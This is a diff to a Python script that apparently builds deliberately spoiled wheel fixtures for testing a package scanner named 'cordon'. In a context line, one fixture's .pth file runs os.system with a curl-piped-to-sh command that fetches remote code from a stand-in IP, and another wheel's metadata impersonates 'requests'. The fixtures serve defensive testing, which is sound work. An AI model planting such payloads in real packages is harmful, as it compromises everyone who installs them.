@@ -5,6 +5,7 @@ Each is what an index could serve, built the way packaging tools build them (zip
 correct RECORD, tarfile for sdists), then spoiled in one way:
 
   cordon_clean-1.0-py3-none-any.whl      nothing to find
+  cordon_app-1.0-py3-none-any.whl        clean, and Requires-Dist: cordon-clean>=1.0 (for a resolver)
   cordon_pth-1.0-py3-none-any.whl        a .pth whose import line runs os.system (pth-code, high)
   cordon_liar-1.0-py3-none-any.whl       METADATA says requests 2.32.3
   cordon_tampered-1.0-py3-none-any.whl   a module changed after RECORD was written
@@ -39,13 +40,14 @@ def digest(data):
     return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
 
 
-def wheel(name, version, files, meta_name=None, meta_version=None, spoil=None, extra=(), raw=()):
+def wheel(name, version, files, meta_name=None, meta_version=None, spoil=None, extra=(), raw=(), requires=()):
     """files: {path: bytes}; spoil(files) runs after RECORD is computed; extra: members left out of
     RECORD; raw: (ZipInfo or name, bytes) written as is, last."""
     dist = f"{name}-{version}.dist-info"
     files = dict(files)
     files[f"{dist}/METADATA"] = (f"Metadata-Version: 2.1\nName: {meta_name or name.replace('_', '-')}\n"
-                                 f"Version: {meta_version or version}\nSummary: a crafted package\n\n").encode()
+                                 f"Version: {meta_version or version}\nSummary: a crafted package\n"
+                                 + "".join(f"Requires-Dist: {r}\n" for r in requires) + "\n").encode()
     files[f"{dist}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: make_packages\nRoot-Is-Purelib: true\nTag: py3-none-any\n\n"
     record = "".join(f"{p},{digest(b)},{len(b)}\n" for p, b in files.items()) + f"{dist}/RECORD,,\n"
     if spoil:
@@ -83,6 +85,7 @@ def sdist(name, version, files, links=()):
 
 module = b'"""A clean module."""\n\ndef answer():\n    return 42\n'
 wheel("cordon_clean", "1.0", {"cordon_clean/__init__.py": module})
+wheel("cordon_app", "1.0", {"cordon_app/__init__.py": b"from cordon_clean import answer\n"}, requires=["cordon-clean>=1.0"])
 wheel("cordon_pth", "1.0", {"cordon_pth/__init__.py": module,
                             "cordon_pth.pth": b'import os; os.system("curl -s http://198.51.100.21/x | sh")\n'})
 wheel("cordon_liar", "1.0", {"cordon_liar/__init__.py": module}, meta_name="requests", meta_version="2.32.3")
